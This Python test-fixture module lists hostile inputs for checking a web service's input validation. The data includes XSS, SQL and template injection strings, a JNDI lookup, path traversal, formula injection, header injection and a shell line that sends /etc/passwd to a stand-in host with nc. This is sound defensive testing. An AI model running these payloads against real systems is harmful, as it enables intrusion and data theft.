"""Hostile words, identifiers and request bodies.

``Words.kept`` is what a field of several lines must store, byte for byte, and show escaped;
None means that the door answers 4xx with a sentence and writes nothing. ``Words.line`` is the
same for a field of one line. Every Body and every bad identifier must be refused with 4xx.
"""

import gzip
import json
from dataclasses import dataclass
from urllib.parse import quote_from_bytes, urlencode

MOST = 10_000  # no field of the product takes more characters than this


@dataclass(frozen=True, slots=True)
class Words:
    """A hostile text and what is kept of it in a long field and in a one-line field."""

    name: str
    text: str
    kept: str | None
    line: str | None

    def __str__(self) -> str:
        return self.name


@dataclass(frozen=True, slots=True)
class Body:
    """A request body that must be refused, and the content type that it claims."""

    name: str
    content_type: str
    data: bytes

    def __str__(self) -> str:
        return self.name


def _verbatim(name: str, text: str) -> Words:
    return Words(name, text, text, None if "\n" in text else text)


def _refused(name: str, text: str) -> Words:
    return Words(name, text, None, None)


ACCEPTED = (
    _verbatim("html", "<b>粗体</b> &amp; &#x27; <!-- 注释 --> ]]>"),
    _verbatim("script", "<script>alert(document.cookie)</script>"),
    _verbatim("attribute break-out", "\"><img src=x onerror=alert(1)> '><svg/onload=alert(1)>"),
    _verbatim("script address", "javascript:alert(1)//%0Aalert(1) data:text/html,<script>1"),
    _verbatim("textarea break-out", "</textarea></title></script><script>alert(1)</script>"),
    _verbatim("sql", "'; DROP TABLE loop_matter; -- \" OR \"1\"=\"1 \\'; SELECT pg_sleep(9)"),
    _verbatim("like wildcards", "%_\\%100%"),
    _verbatim("search operators", '"NEAR(" AND OR NOT * ^ : & | ! <-> {a} "'),
    _verbatim("template", "{{ 7*7 }} {% debug %} {# c #} ${7*7} #{7*7} <%= 7*7 %>"),
    _verbatim("format string", "%s %n %(secret)s {0.__class__.__mro__} {settings.SECRET_KEY}"),
    _verbatim("shell", "$(reboot) `id` ; rm -rf / && cat /etc/passwd | nc 192.0.2.1 1"),
    _verbatim("lookup", "${jndi:ldap://192.0.2.1/a} ${env:HOME}"),
    _verbatim("path", "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f"),
    _verbatim("formula", "=1+1"),
    _verbatim("formula command", "=cmd|' /C calc'!A0"),
    _verbatim("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _verbatim("formula full width", "＝HYPERLINK(\"http://192.0.2.1\")"),
    _verbatim("xml entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    _verbatim("words that mean nothing", "null NULL None undefined NaN true false 0 -1 [] {}"),
    _verbatim("huge number", "9" * 400),
    _verbatim("one long word", "长" * 5000),
    _verbatim("emoji", "👨‍👩‍👧‍👦🏳️‍🌈👍🏿🇨🇳1️⃣ ❤️ 🫠"),
    _verbatim("rare characters", "𠮷 㐂 䶮 𬱖 豈 \ue000 〇"),
    _verbatim("many scripts", "مرحبا שלום नमस्ते ภาษาไทย བོད་ཡིག ᠮᠣᠩᠭᠣᠯ ئۇيغۇرچە"),
    _verbatim("direction marks", "abc\u200fאבג\u200e 123\u061c"),
    _verbatim("no width", "零\u200b宽\u200c空\u200d格\u2060\u00ad"),
    _verbatim("odd blanks", "a\u00a0b\u202fc\u3000d\u2003e"),
    _verbatim("tab", "一\t二"),
    _verbatim("several lines", "第一行\n\n  第三行\n"),
    Words("carriage returns", "一\r\n二\r三", "一\n二\n三", None),
    Words("header injection", "主题\r\nBcc: a@example.org\r\n\r\n正文",
          "主题\nBcc: a@example.org\n\n正文", None),
    Words("percent-coded line end", "a%0d%0aSet-Cookie: b=1", "a%0d%0aSet-Cookie: b=1",
          "a%0d%0aSet-Cookie: b=1"),
    Words("byte order mark", "\ufeff你好", "你好", "你好"),
    Words("direction override", "发票\u202egpj.exe\u202c", "发票gpj.exe", "发票gpj.exe"),
    Words("direction isolate", "\u2067a\u2069b", "ab", "ab"),
    Words("decomposed letters", "e\u0301te\u0301", "été", "été"),
)  # fmt: skip
REFUSED = (
    _refused("over-long", "长" * (MOST + 1)),
    _refused("a million characters", "a" * 1_000_000),
    _refused("nul", "路灯\x00坏了"),
    _refused("only nul", "\x00"),
    _refused("bell", "路灯\x07坏了"),
    _refused("terminal control", "\x1b[31m红\x1b[0m \x1b]0;title\x07"),
    _refused("vertical tab", "一\x0b二"),
    _refused("delete", "一\x7f二"),
    _refused("second set of controls", "一\x85二\x9b"),
    _refused("lone high surrogate", "一\ud83d二"),
    _refused("lone low surrogate", "一\udc4d二"),
    _refused("noncharacter", "一\uffff二"),
    _refused("noncharacter far out", "一\U0010ffff二"),
    _refused("wrong encoding", "路灯坏了".encode("gbk").decode("utf-8", "replace")),
    _refused("zalgo", "路" + "\u0336\u0353\u0489" * 40 + "灯"),
)
EVERY_WORDS = ACCEPTED + REFUSED

BAD_AREA_CODES = (
    "371403999999", "999999999999", "371403", "37140300120", "3714030012011", "000000000000",
    "-71403001201", "3.71403e11", "３７１４０３００１２０１", "٣٧١٤٠٣٠٠١٢٠١", "37/14/03/001/201/",
    "../371403", "371403001201\x00", "' OR 1=1 --", "null", "[]", "9" * 4000,
)  # fmt: skip
BAD_IDS = (
    "0", "-1", "1", "abc", "none", "00000000-0000-0000-0000-00000000000",
    "00000000-0000-0000-0000-0000000000000", "00000000-0000-0000-0000-00000000000g",
    "urn:uuid:", "{}", "' OR 1=1 --", "../../admin", "%00",
    "%2e%2e%2f", "9" * 4000, "７", "\U0001f4a9",
)  # fmt: skip
BAD_NUMBERS = (
    "", " ", "nan", "inf", "-inf", "1e400", "1e-400", "0x10", "1_000", "9" * 400, "-" + "9" * 400,
    "1.5", "１", "٣", "--1", "=1", "null", "true", "2147483648", "9223372036854775808",
)  # fmt: skip

_GOOD = {"text": "路灯坏了", "area": "371403001201"}
_AREA, _GBK = b"area=371403001201&text=", "路灯坏了".encode("gbk")
_JSON, _FORM = "application/json", "application/x-www-form-urlencoded"


def _json(name: str, data: bytes | str) -> Body:
    return Body(name, _JSON, data.encode("utf-8") if isinstance(data, str) else data)


BAD_JSON = (
    _json("nothing", ""),
    _json("half an object", '{"text": "路灯'),
    _json("a stray comma", '{"text": "路灯",}'),
    _json("single quotes", "{'text': '路灯'}"),
    _json("a comment", '{"text": "路灯"} // ok'),
    _json("two values", "{}{}"),
    _json("not a number", '{"text": NaN}'),
    _json("infinity", '{"text": Infinity}'),
    _json("an array", "[]"),
    _json("an array of objects", "[{}]"),
    _json("a string", '"text"'),
    _json("a number", "1"),
    _json("null", "null"),
    _json("an object for text", '{"text": {"$ne": null}, "area": {"$gt": ""}}'),
    _json("an array for text", '{"text": ["a"], "area": ["371403001201"]}'),
    _json("a number for text", '{"text": 1, "area": 371403001201}'),
    _json("a number of 5,000 digits", '{"text": ' + "9" * 5000 + "}"),
    _json("a number beyond all", '{"text": 1e999999999}'),
    _json("deep arrays", "[" * 100_000),
    _json("deep arrays, closed", "[" * 50_000 + "]" * 50_000),
    _json("deep objects", '{"a":' * 20_000 + "1" + "}" * 20_000),
    _json("a lone surrogate", '{"text": "\\ud800", "area": "371403001201"}'),
    _json("an escaped nul", '{"text": "a\\u0000b", "area": "371403001201"}'),
    _json("an escaped control", '{"text": "a\\u001bb", "area": "371403001201"}'),
    _json("a raw control", b'{"text": "a\x01b", "area": "371403001201"}'),
    _json("gbk", json.dumps(_GOOD, ensure_ascii=False).encode("gbk")),
    _json("broken utf-8", b'{"text": "\xff\xfe\xfa"}'),
    _json("overlong utf-8", b'{"text": "\xc0\xaf\xe0\x80\xaf"}'),
    _json("compressed", gzip.compress(json.dumps(_GOOD).encode())),
    _json("a form", urlencode(_GOOD)),
    _json("nul bytes", b"\x00" * 1000),
)


def _form(name: str, data: bytes) -> Body:
    return Body(name, _FORM, data)


BAD_FORMS = (
    _form("gbk as utf-8", _AREA + quote_from_bytes(_GBK).encode()),
    _form("raw gbk", _AREA + _GBK),
    Body("declared gbk", f"{_FORM}; charset=gbk", _AREA + quote_from_bytes(_GBK).encode()),
    _form("overlong utf-8", _AREA + b"%C0%AF%E0%80%AF"),
    _form("coded surrogate", _AREA + b"%ED%A0%80"),
    _form("coded nul", _AREA + b"a%00b"),
    _form("thousands of fields", b"&".join(b"f%d=1" % number for number in range(5000))),
    _form("json", json.dumps(_GOOD).encode()),
    Body("no boundary", "multipart/form-data", b"--x\r\n"),
    Body("broken parts", "multipart/form-data; boundary=x", b"--x\r\nContent-Disp: x"),
)  # fmt: skip
